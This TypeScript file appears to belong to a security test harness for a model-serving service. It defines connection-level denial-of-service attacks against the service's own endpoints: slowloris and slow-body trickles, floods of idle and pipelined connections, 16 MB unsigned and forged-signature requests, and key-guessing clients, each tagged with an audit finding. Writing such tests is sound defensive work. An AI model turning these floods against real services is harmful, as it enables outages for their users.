import type { Socket } from 'node:net';
import type { Attack, Attacker } from './attack.ts';
import { untilClosed } from './attacker.ts';
import { CHAT } from './attacks-work.ts';

const WIRE_PATH = '/replica/v1/generate';
const WIRE_HEAD_BYTES = 16_777_215;
const SOCKETS = 200;
const PROBE = '/health/live';

/** Connections: what is sent without a key, half sent, or sent too fast. */
export const CONNECTION_ATTACKS: readonly Attack[] = [
  {
    name: 'wire-unsigned',
    finding: 'H5',
    what: `${SOCKETS} unsigned calls of 16 MB to a replica`,
    targets: ['replica'],
    run: (attacker) => wire(attacker, {}),
  },
  {
    name: 'wire-made-up',
    finding: 'H5',
    what: `${SOCKETS} calls of 16 MB to a replica with a made-up signature`,
    targets: ['replica'],
    run: (attacker) =>
      wire(attacker, {
        'x-gemlet-signature': `v2 k=00000000, t=${Date.now()}, n=${'n'.repeat(20)}, l=${WIRE_HEAD_BYTES}, d=${'0'.repeat(64)}, s=${'0'.repeat(64)}`,
      }),
  },
  {
    name: 'wrong-keys',
    finding: 'M2',
    what: '50 clients that guess keys',
    targets: ['serve'],
    run: ({ post, forever }) =>
      forever(50, () => post(CHAT, '{}', { authorization: `Bearer guess-${Math.random()}` })),
  },
  {
    name: 'slowloris',
    finding: 'held',
    what: '500 connections that send a byte of a header a second',
    targets: ['serve'],
    run: ({ url, open, forever }) =>
      forever(500, async () => {
        const socket = await open(
          [`POST ${CHAT} HTTP/1.1\r\nhost: ${url.host}\r\nx-slow: `],
          'all',
        );
        if (socket !== null) await trickle(socket);
      }),
  },
  {
    name: 'slow-bodies',
    finding: 'held',
    what: '200 bodies of which a byte comes a second',
    targets: ['serve'],
    run: ({ head, open, forever }) =>
      forever(200, async () => {
        const headers = { 'content-type': 'application/json', 'content-length': '1000000' };
        const socket = await open([head('POST', CHAT, headers), '{"messages":"'], 'all');
        if (socket !== null) await trickle(socket);
      }),
  },
  {
    name: 'idle-connections',
    finding: 'held',
    what: '2,000 connections that say nothing',
    targets: ['serve'],
    run: ({ hold, forever }) => forever(2_000, () => hold([], 'all')),
  },
  {
    name: 'pipelined',
    finding: 'held',
    what: '4 connections of 5,000 requests each, whose answers are not read',
    targets: ['serve'],
    run: ({ head, hold, forever }) =>
      forever(4, () => hold([head('GET', PROBE).repeat(5_000)], 'begin')),
  },
];

/** A head that says 16 MB will come, and all of them. */
async function wire(
  { head, hold, forever }: Attacker,
  headers: Readonly<Record<string, string>>,
): Promise<void> {
  const zeros = new Uint8Array(WIRE_HEAD_BYTES);
  const length = String(WIRE_HEAD_BYTES + 1_000);
  await forever(SOCKETS, () => {
    const start = head('POST', WIRE_PATH, { ...headers, 'content-length': length });
    return hold([start, Uint8Array.of(0, 0, 0, 1), zeros], 'all');
  });
}

async function trickle(socket: Socket): Promise<void> {
  const timer = setInterval(() => socket.write('a'), 1_000);
  await untilClosed(socket);
  clearInterval(timer);
}
